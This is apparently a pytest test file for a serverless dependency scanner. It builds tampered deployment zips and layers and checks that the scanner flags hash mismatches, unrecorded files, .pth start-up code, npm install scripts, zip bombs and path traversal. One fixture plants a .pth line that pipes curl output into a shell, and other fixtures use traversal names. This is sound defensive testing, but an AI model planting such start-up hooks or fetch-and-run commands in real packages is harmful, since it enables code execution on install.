"""Built artifacts: installed packages in deployment zips, code directories and layers
(DEP007 tampering, DEP004 start-up and install-time code, DEP001 in layers).

The zips are built here, in memory-sized temporary files, from a few bytes of content:
a package "installed" the way pip does it (``dist-info/METADATA`` and a ``RECORD`` with
urlsafe-base64 sha256 digests), then tampered with.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import zipfile
from pathlib import Path

import hypothesis.strategies as st
from hypothesis import HealthCheck, given, settings
from typer.testing import CliRunner

from faasguard.cli import app as cli
from faasguard.config import ScanConfig
from faasguard.deps.artifact import (
    BINDING_GYP,
    HASH_MISMATCH,
    INSTALL_SCRIPT,
    PTH_CODE,
    UNRECORDED,
    read_artifact,
)
from faasguard.deps.audit import audit_function
from faasguard.engine import load_all, scan
from faasguard.findings import Finding, Severity
from faasguard.loaders.discovery import discover


def record_hash(content: bytes) -> str:
    digest = hashlib.sha256(content).digest()
    return "sha256=" + base64.urlsafe_b64encode(digest).rstrip(b"=").decode()


def installed(
    name: str,
    version: str,
    files: dict[str, bytes],
    *,
    site: str = "",
    requires: tuple[str, ...] = (),
) -> dict[str, bytes]:
    """The members pip writes when it installs ``name`` into ``site``."""
    dist = f"{name.replace('-', '_')}-{version}.dist-info"
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    metadata += "".join(f"Requires-Dist: {r}\n" for r in requires)
    members = dict(files)
    members[f"{dist}/METADATA"] = metadata.encode()
    members[f"{dist}/INSTALLER"] = b"pip\n"
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    for path, content in members.items():
        writer.writerow([path, record_hash(content), len(content)])
    writer.writerow([f"{dist}/RECORD", "", ""])
    writer.writerow(["../../bin/" + name, record_hash(b"x"), 1])  # outside the site: skipped
    members[f"{dist}/RECORD"] = out.getvalue().encode()
    prefix = f"{site}/" if site else ""
    return {prefix + path: content for path, content in members.items()}


def write_zip(path: Path, members: dict[str, bytes]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return path


REQUESTS = {
    "requests/__init__.py": b"from .api import get\n",
    "requests/api.py": b"def get(url):\n    return url\n",
}
URLLIB3 = {"urllib3/__init__.py": b"VERSION = '2'\n"}


def clean_members() -> dict[str, bytes]:
    members = installed("requests", "2.31.0", REQUESTS, requires=("urllib3>=1.21",))
    members.update(installed("urllib3", "2.2.1", URLLIB3))
    members["app.py"] = b"import requests\n\ndef handler(event, context):\n    return 1\n"
    members["requirements.txt"] = b"requests==2.31.0\n"
    return members


def test_clean_zip_lists_installed_packages_without_issues(tmp_path: Path) -> None:
    artifact = read_artifact(write_zip(tmp_path / "fn.zip", clean_members()))
    found = {(d.name, d.version, d.ecosystem) for d in artifact.packages}
    assert found == {("requests", "2.31.0", "PyPI"), ("urllib3", "2.2.1", "PyPI")}
    assert all(d.artifact == str(tmp_path / "fn.zip") for d in artifact.packages)
    [requests] = [d for d in artifact.packages if d.name == "requests"]
    assert requests.requires == ("urllib3",)
    assert artifact.issues == () and artifact.diagnostics == ()
    assert [m.path for m in artifact.manifests] == [f"{tmp_path / 'fn.zip'}!/requirements.txt"]


def test_tampered_files_are_found_by_record(tmp_path: Path) -> None:
    members = clean_members()
    members["requests/api.py"] = b"def get(url):\n    return steal(url)\n"  # same size? no
    members["requests/sessions.py"] = b"import os\n"  # not in RECORD
    members["requests/__pycache__/api.cpython-312.pyc"] = b"\x00" * 16  # compileall: ignored
    members["handler_util.py"] = b"x = 1\n"  # the function's own code: not a package's
    artifact = read_artifact(write_zip(tmp_path / "fn.zip", members))
    issues = {(i.kind, i.member, i.package) for i in artifact.issues}
    assert issues == {
        (HASH_MISMATCH, "requests/api.py", "requests"),
        (UNRECORDED, "requests/sessions.py", "requests"),
    }
    [mismatch] = [i for i in artifact.issues if i.kind == HASH_MISMATCH]
    assert "RECORD of requests says" in mismatch.detail
    assert mismatch.location.file == str(tmp_path / "fn.zip")


def test_same_size_edit_is_caught_by_the_hash(tmp_path: Path) -> None:
    members = clean_members()
    original = members["requests/api.py"]
    members["requests/api.py"] = original.replace(b"url", b"URL")
    assert len(members["requests/api.py"]) == len(original)
    [issue] = read_artifact(write_zip(tmp_path / "fn.zip", members)).issues
    assert issue.kind == HASH_MISMATCH and issue.detail.startswith("sha256 ")


def test_zip_bombs_and_traversal_names_are_counted_not_read(tmp_path: Path) -> None:
    members = clean_members()
    members["../../etc/evil.py"] = b"x"
    members["/abs.py"] = b"x"
    members["requests/bomb.bin"] = b"\0" * (4 * 1024 * 1024)  # ratio ~1000:1
    artifact = read_artifact(write_zip(tmp_path / "fn.zip", members))
    messages = [d.message for d in artifact.diagnostics]
    assert any(m.startswith("2 zip entries with an absolute or '..' path") for m in messages)
    assert any(m.startswith("1 entry not read") and "zip bomb" in m for m in messages)
    # the bomb was skipped, not reported as an unrecorded file nor hashed
    assert not [i for i in artifact.issues if i.member == "requests/bomb.bin"]
    assert {d.name for d in artifact.packages} == {"requests", "urllib3"}


def test_broken_zip_is_a_diagnostic(tmp_path: Path) -> None:
    path = tmp_path / "broken.zip"
    path.write_bytes(b"PK\x03\x04 not really a zip")
    artifact = read_artifact(path)
    [diagnostic] = artifact.diagnostics
    assert "cannot read artifact" in diagnostic.message and artifact.packages == ()


def test_pth_node_scripts_and_binding_gyp(tmp_path: Path) -> None:
    site = "python/lib/python3.12/site-packages"
    members = installed("requests", "2.31.0", REQUESTS, site=site)
    members[f"{site}/evil.pth"] = b"# comment\nimport os; os.system('curl x | sh')\n"
    members[f"{site}/paths.pth"] = b"/opt/extra\n"  # plain path entries run nothing
    members["nodejs/node_modules/native/package.json"] = json.dumps(
        {"name": "native", "version": "1.0.0", "gypfile": True}
    ).encode()
    members["nodejs/node_modules/native/binding.gyp"] = b"{}"
    members["nodejs/node_modules/@acme/hook/package.json"] = json.dumps(
        {"name": "@acme/hook", "version": "2.0.0", "scripts": {"postinstall": "node x.js"}}
    ).encode()
    members["nodejs/node_modules/@acme/hook/lib/package.json"] = b'{"type": "module"}'
    artifact = read_artifact(write_zip(tmp_path / "layer.zip", members))
    kinds = {(i.kind, i.member) for i in artifact.issues}
    assert kinds == {
        (PTH_CODE, f"{site}/evil.pth"),
        (BINDING_GYP, "nodejs/node_modules/native/binding.gyp"),
        (INSTALL_SCRIPT, "nodejs/node_modules/@acme/hook/package.json"),
    }
    npm = {(d.name, d.version, d.install_script) for d in artifact.packages if d.ecosystem == "npm"}
    assert npm == {("native", "1.0.0", False), ("@acme/hook", "2.0.0", True)}


TEMPLATE = """\
AWSTemplateFormatVersion: '2010-09-09'
Transform: AWS::Serverless-2016-10-31
Resources:
  DepsLayer:
    Type: AWS::Lambda::LayerVersion
    Properties:
      Content: build/layer.zip
  ZipFunction:
    Type: AWS::Serverless::Function
    Properties:
      CodeUri: build/fn.zip
      Handler: app.handler
      Runtime: python3.12
      Layers:
        - !Ref DepsLayer
  OtherFunction:
    Type: AWS::Serverless::Function
    Properties:
      CodeUri: build/fn.zip
      Handler: app.handler
      Runtime: python3.12
"""


def findings_of(report_findings: list[Finding], rule: str) -> list[Finding]:
    return sorted(
        (f for f in report_findings if f.rule_id == rule),
        key=lambda f: (f.function or "", f.message),
    )


def test_scan_reports_tampered_zip_and_layer_per_function(tmp_path: Path, osv_db: Path) -> None:
    members = clean_members()
    members["requests/api.py"] += b"import socket\n"
    members.update(installed("leftpad-py", "0.1", {"leftpad_py/__init__.py": b""}))
    write_zip(tmp_path / "build" / "fn.zip", members)
    site = "python/lib/python3.12/site-packages"
    layer = installed("PyYAML", "5.3", {"yaml/__init__.py": b"# yaml\n"}, site=site)
    layer[f"{site}/zz.pth"] = b"import sitecustomize_hook\n"
    write_zip(tmp_path / "build" / "layer.zip", layer)
    (tmp_path / "template.yaml").write_text(TEMPLATE)
    config = ScanConfig(db_path=str(osv_db), select=("DEP0",))
    report = scan([str(tmp_path / "template.yaml")], config)
    zip_path = str(tmp_path / "build" / "fn.zip")
    tampered = findings_of(report.findings, "DEP007")
    by_function: dict[str | None, list[str]] = {}
    for finding in tampered:
        by_function.setdefault(finding.function, []).append(finding.message)
    # both functions ship the same zip: one finding per cause, naming both (issue 17)
    assert set(by_function) == {"OtherFunction"}
    messages = by_function["OtherFunction"]
    assert all(
        m.endswith("(one cause shared by functions OtherFunction, ZipFunction)") for m in messages
    )
    assert all(f.properties["functions"] == ["OtherFunction", "ZipFunction"] for f in tampered)
    assert all([r.message for r in f.related] == ["function ZipFunction"] for f in tampered)
    assert any(
        m.startswith("'requests/api.py' in the function code (") and "modified after" in m
        for m in messages
    )
    assert any(
        m.startswith("leftpad-py 0.1 installed in the function code")
        and "neither declared in requirements.txt nor required" in m
        for m in messages
    )
    assert not any("urllib3" in m for m in messages)  # required by requests: declared
    hash_finding = next(f for f in tampered if "modified after" in f.message)
    assert hash_finding.location.file.endswith("build/fn.zip")
    assert hash_finding.severity is Severity.HIGH
    assert hash_finding.properties["member"] == "requests/api.py"
    undeclared = next(f for f in tampered if "leftpad" in f.message)
    assert undeclared.severity is Severity.MEDIUM
    # the layer's content is audited for the function using it, and only for that one
    [vulnerable] = [f for f in findings_of(report.findings, "DEP001") if "PyYAML" in f.message]
    assert vulnerable.function == "ZipFunction"
    assert vulnerable.location.file.endswith("build/layer.zip")
    [pth] = findings_of(report.findings, "DEP004")
    assert pth.function == "ZipFunction" and "zz.pth" in pth.message
    assert "layer DepsLayer" in pth.message
    assert zip_path  # the zip path is what the hash finding names


def test_layer_directory_with_lockfile(tmp_path: Path) -> None:
    layer_dir = tmp_path / "layers" / "deps"
    site = layer_dir / "python"
    for member, content in {
        **installed("requests", "2.30.0", REQUESTS),
        **installed("urllib3", "2.2.1", URLLIB3),
    }.items():
        target = site / member
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content)
    (site / "requests" / "extra.py").write_text("print('hi')\n")
    (layer_dir / "poetry.lock").write_text(
        '[[package]]\nname = "requests"\nversion = "2.31.0"\n'
        'files = [{file = "requests-2.31.0-py3-none-any.whl", hash = "sha256:00"}]\n'
    )
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "app.py").write_text("import requests\n")
    (tmp_path / "template.yaml").write_text(
        "Transform: AWS::Serverless-2016-10-31\nResources:\n"
        "  Deps:\n    Type: AWS::Serverless::LayerVersion\n"
        "    Properties:\n      ContentUri: layers/deps/\n"
        "  Fn:\n    Type: AWS::Serverless::Function\n"
        "    Properties:\n      CodeUri: src/\n      Handler: app.handler\n"
        "      Runtime: python3.12\n      Layers: [!Ref Deps]\n"
    )
    report = scan([str(tmp_path)], ScanConfig(select=("DEP007",), db_path=str(tmp_path / "x")))
    messages = sorted(f.message for f in report.findings)
    assert len(messages) == 3, messages
    extra_file, version, urllib3 = messages
    assert extra_file.startswith("'python/requests/extra.py' in the layer Deps (")
    assert "not listed in the RECORD of requests" in extra_file
    assert version.startswith("requests 2.30.0 installed in the layer Deps (")
    assert "is installed at 2.30.0, but poetry.lock locks 2.31.0" in version
    assert urllib3.startswith("urllib3 2.2.1") and "is not in poetry.lock" in urllib3
    extra = next(f for f in report.findings if "extra.py" in f.message)
    # in a directory the finding points at the file itself
    assert extra.location.file.endswith("layers/deps/python/requests/extra.py")
    assert all(f.function == "Fn" for f in report.findings)


def test_dev_node_modules_of_a_checkout_are_not_shipped(tmp_path: Path) -> None:
    code = tmp_path / "src"
    (code / "node_modules" / "jest").mkdir(parents=True)
    (code / "node_modules" / "jest" / "package.json").write_text(
        '{"name": "jest", "version": "29.0.0"}'
    )
    (code / "node_modules" / "left-pad").mkdir(parents=True)
    (code / "node_modules" / "left-pad" / "package.json").write_text(
        '{"name": "left-pad", "version": "1.3.0", "scripts": {"install": "node-gyp rebuild"}}'
    )
    (code / "package.json").write_text('{"devDependencies": {"jest": "29.0.0"}}')
    (code / "package-lock.json").write_text(
        json.dumps(
            {
                "lockfileVersion": 3,
                "packages": {
                    "": {"devDependencies": {"jest": "29.0.0"}},
                    "node_modules/jest": {"version": "29.0.0", "dev": True, "integrity": "x"},
                },
            }
        )
    )
    (code / "index.js").write_text("exports.handler = async () => 1;\n")
    (tmp_path / "template.yaml").write_text(
        "Transform: AWS::Serverless-2016-10-31\nResources:\n"
        "  Fn:\n    Type: AWS::Serverless::Function\n"
        "    Properties:\n      CodeUri: src/\n      Handler: index.handler\n"
        "      Runtime: nodejs20.x\n"
    )
    [app] = load_all(discover([str(tmp_path)]), ScanConfig(), root=str(tmp_path))
    audit = audit_function(app, app.functions[0], with_store=False)
    assert audit is not None
    assert {d.name for d in audit.shipped} == {"left-pad"}  # jest is a dev tool
    report = scan([str(tmp_path)], ScanConfig(select=("DEP004", "DEP007"), db_path="/nonexistent"))
    rules = sorted((f.rule_id, f.message.split(" ", 1)[0]) for f in report.findings)
    assert rules == [("DEP004", "left-pad"), ("DEP007", "left-pad")]


def test_cli_deps_lists_installed_and_layer_packages(tmp_path: Path) -> None:
    write_zip(tmp_path / "build" / "fn.zip", clean_members())
    layer = installed("python3-dateutil", "2.8.1", {"dateutil/__init__.py": b""}, site="python")
    write_zip(tmp_path / "build" / "layer.zip", layer)
    (tmp_path / "template.yaml").write_text(TEMPLATE)
    result = CliRunner().invoke(
        cli, ["deps", str(tmp_path), "--function", "ZipFunction", "--db", str(tmp_path / "x")]
    )
    assert result.exit_code == 0, result.output
    assert "requests 2.31.0  [PyPI, direct, unknown]" in result.output  # from requirements.txt
    assert "urllib3 2.2.1  [PyPI, transitive, unknown, installed]" in result.output
    assert "python3-dateutil 2.8.1  [PyPI, transitive, unknown, layer DepsLayer, installed]" in (
        result.output
    )
    # a typosquat installed in a layer is reported for the function using the layer
    report = scan([str(tmp_path)], ScanConfig(select=("DEP003",), db_path=str(tmp_path / "x")))
    [squat] = report.findings
    assert squat.function == "ZipFunction" and "python-dateutil" in squat.message
    assert squat.location.file.endswith("build/layer.zip")


def test_windows_separators_are_read_and_traversal_still_caught(tmp_path: Path) -> None:
    members = {name.replace("/", "\\"): content for name, content in clean_members().items()}
    members["..\\..\\evil.py"] = b"x"
    artifact = read_artifact(write_zip(tmp_path / "win.zip", members))
    assert {d.name for d in artifact.packages} == {"requests", "urllib3"}
    assert artifact.issues == ()
    [diagnostic] = artifact.diagnostics
    assert diagnostic.message.startswith("1 zip entry with an absolute or '..' path")


_NAME_PARTS = st.sampled_from(
    [
        "..",
        ".",
        "",
        "requests",
        "x.dist-info",
        "node_modules",
        "pkg",
        "RECORD",
        "METADATA",
        "package.json",
        "a.pth",
        "C:",
        "\\",
        "binding.gyp",
        "__pycache__",
        "site-packages",
    ]
)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    extra=st.dictionaries(
        # zipfile cannot write an empty name or one ending in "/" with content
        st.lists(_NAME_PARTS, min_size=1, max_size=5)
        .map("/".join)
        .filter(lambda n: bool(n) and not n.endswith("/")),
        st.binary(max_size=64),
        max_size=12,
    )
)
def test_arbitrary_members_never_crash(tmp_path: Path, extra: dict[str, bytes]) -> None:
    members = clean_members()
    members.update(extra)
    path = tmp_path / "fuzz.zip"
    path.unlink(missing_ok=True)
    artifact = read_artifact(write_zip(path, members))
    # whatever else is there, a member with a '..' component is never read
    for issue in artifact.issues:
        assert ".." not in issue.member.replace("\\", "/").split("/")
    for dependency in artifact.packages:
        assert ".." not in dependency.location.file.split("/")


def test_terraform_layer_content_is_audited_for_its_functions(tmp_path: Path) -> None:
    layer = installed("requests", "2.31.0", REQUESTS, site="python")
    layer["python/requests/api.py"] = b"tampered = True\n"
    write_zip(tmp_path / "build" / "layer.zip", layer)
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "app.py").write_text("import requests\n")
    (tmp_path / "main.tf").write_text(
        'resource "aws_lambda_layer_version" "deps" {\n  layer_name = "deps"\n'
        '  filename = "build/layer.zip"\n}\n'
        'resource "aws_lambda_layer_version" "deps_v2" {\n  layer_name = "deps2"\n'
        '  filename = "build/missing.zip"\n}\n'
        'data "archive_file" "fn" {\n  type = "zip"\n  source_dir = "${path.module}/src"\n'
        '  output_path = "${path.module}/build/fn.zip"\n}\n'
        'resource "aws_lambda_function" "fn" {\n  function_name = "fn"\n'
        '  role = "arn:aws:iam::123456789012:role/x"\n  handler = "app.handler"\n'
        '  runtime = "python3.12"\n  filename = data.archive_file.fn.output_path\n'
        "  layers = [aws_lambda_layer_version.deps.arn]\n}\n"
        'resource "aws_lambda_function" "other" {\n  function_name = "other"\n'
        '  role = "arn:aws:iam::123456789012:role/x"\n  handler = "app.handler"\n'
        '  runtime = "python3.12"\n  filename = data.archive_file.fn.output_path\n'
        "  layers = [aws_lambda_layer_version.deps_v2.arn]\n}\n"
    )
    report = scan([str(tmp_path)], ScanConfig(select=("DEP007",), db_path=str(tmp_path / "x")))
    [finding] = report.findings
    assert finding.function == "aws_lambda_function.fn"
    assert finding.message.startswith("'python/requests/api.py' in the layer deps (")
    assert finding.location.file.endswith("build/layer.zip")


def test_python_function_does_not_ship_the_service_node_modules(tmp_path: Path) -> None:
    # a Serverless Python service: plugins live in node_modules at the service root
    plugin = tmp_path / "node_modules" / "serverless-python-requirements"
    plugin.mkdir(parents=True)
    (plugin / "package.json").write_text(
        '{"name": "serverless-python-requirements", "version": "6.0.0",'
        ' "scripts": {"postinstall": "node setup.js"}}'
    )
    (plugin / "binding.gyp").write_text("{}")
    (tmp_path / "package.json").write_text(
        '{"devDependencies": {"serverless-python-requirements": "6.0.0"}}'
    )
    (tmp_path / "handler.py").write_text("import requests\n")
    (tmp_path / "requirements.txt").write_text("requests==2.31.0\n")
    (tmp_path / "serverless.yml").write_text(
        "service: s\nprovider:\n  name: aws\n  runtime: python3.12\n"
        "functions:\n  hello:\n    handler: handler.main\n"
    )
    [app] = load_all(discover([str(tmp_path)]), ScanConfig(), root=str(tmp_path))
    audit = audit_function(app, app.functions[0], with_store=False)
    assert audit is not None
    assert [d.name for d in audit.shipped] == ["requests"]
    report = scan([str(tmp_path)], ScanConfig(select=("DEP004", "DEP007"), db_path="/nonexistent"))
    assert report.findings == []
